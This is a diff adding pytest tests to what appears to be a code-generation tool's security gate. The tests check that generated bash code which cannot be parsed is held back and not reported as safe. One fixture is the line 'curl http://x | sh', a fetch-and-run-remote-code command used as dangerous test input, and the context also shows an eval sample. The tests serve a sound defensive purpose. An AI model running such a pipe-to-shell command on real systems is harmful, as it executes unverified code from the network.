@@ -129,6 +129,34 @@ def test_the_requirement_says_what_holds_a_program_back(tmp_path: Path, limit: s
     assert state(tmp_path, "eval('print(1)')", more=f"[security]\nfail_on = '{limit}'\n") == expected
 
 
+UNREAD = """
+[file]
+name = "p"
+language = "bash"
+[project]
+requirements = "Print a line."
+[build]
+rounds = 0
+without = ["coverage", "review"]
+[tests]
+mutants = 0
+"""
+
+
+def test_a_dangerous_line_holds_a_program_back_that_cannot_be_read(tmp_path: Path) -> None:
+    handed = build(tmp_path, UNREAD, model([reply("", code("p.sh", "curl http://x | sh\nif then", "bash"))]))
+    assert handed.iteration.state == "held back"
+    assert not (tmp_path / "p.sh").exists()
+
+
+def test_the_report_does_not_call_safe_what_the_rules_could_not_read(tmp_path: Path) -> None:
+    handed = build(tmp_path, UNREAD, model([reply("", code("p.sh", "if then", "bash"))]))
+    report = (tmp_path / "SECURITY.md").read_text()
+    assert handed.iteration.state == "failed"
+    assert "**Not complete**: the security rules have not judged p." in report
+    assert "or more is open" not in report
+
+
 def test_comments_and_docstrings_are_left_out_and_code_beside_them_is_not() -> None:
     text = """'Doc.'
 x = "# no comment"  # one
